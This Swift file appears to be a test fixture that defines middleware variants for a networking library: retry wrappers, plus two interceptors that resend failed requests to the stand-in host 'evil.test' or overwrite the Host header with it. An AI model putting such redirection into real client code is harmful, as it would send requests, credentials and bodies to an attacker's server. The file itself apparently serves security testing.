import BackplaneNetworking
import HTTPTypes

/// The middlewares of a trace.
enum AttackMiddleware: CaseIterable, Sendable {
    case none
    case retry
    /// The retry middleware within a middleware of the app, which adds a field.
    case fieldAndRetry
    /// A middleware of the app that repeats a lost request if its method or its key permits that.
    case app
    /// A middleware of the app that tries a lost request at another server.
    case hopping
    /// A middleware of the app that names another virtual host.
    case host
}

extension AttackMiddleware {
    func add(to options: inout NetworkOptions) {
        switch self {
        case .none: break
        case .retry: options.middlewares.append(RetryMiddleware(reserve: 1000, jitter: { $0 * 0.5 }))
        case .fieldAndRetry:
            options.intercept { request, body, _, next in
                var request = request
                request.headerFields[.acceptLanguage] = "vi"
                return try await next(request, body)
            }
            Self.retry.add(to: &options)
        case .app:
            options.intercept { request, body, _, next in
                let isSafe = ![.post, .patch].contains(request.method)
                let key = request.headerFields[.idempotencyKey] ?? ""
                do { return try await next(request, body) } catch {
                    guard isSafe || !key.isEmpty, !Task.isCancelled else { throw error }
                    return try await next(request, body)
                }
            }
        case .hopping:
            options.intercept { request, body, _, next in
                do { return try await next(request, body) } catch {
                    guard !Task.isCancelled else { throw error }
                    var request = request
                    request.authority = "evil.test"
                    return try await next(request, body)
                }
            }
        case .host:
            options.intercept { request, body, _, next in
                var request = request
                request.headerFields[HTTPField.Name.hostField] = "evil.test"
                return try await next(request, body)
            }
        }
    }
}
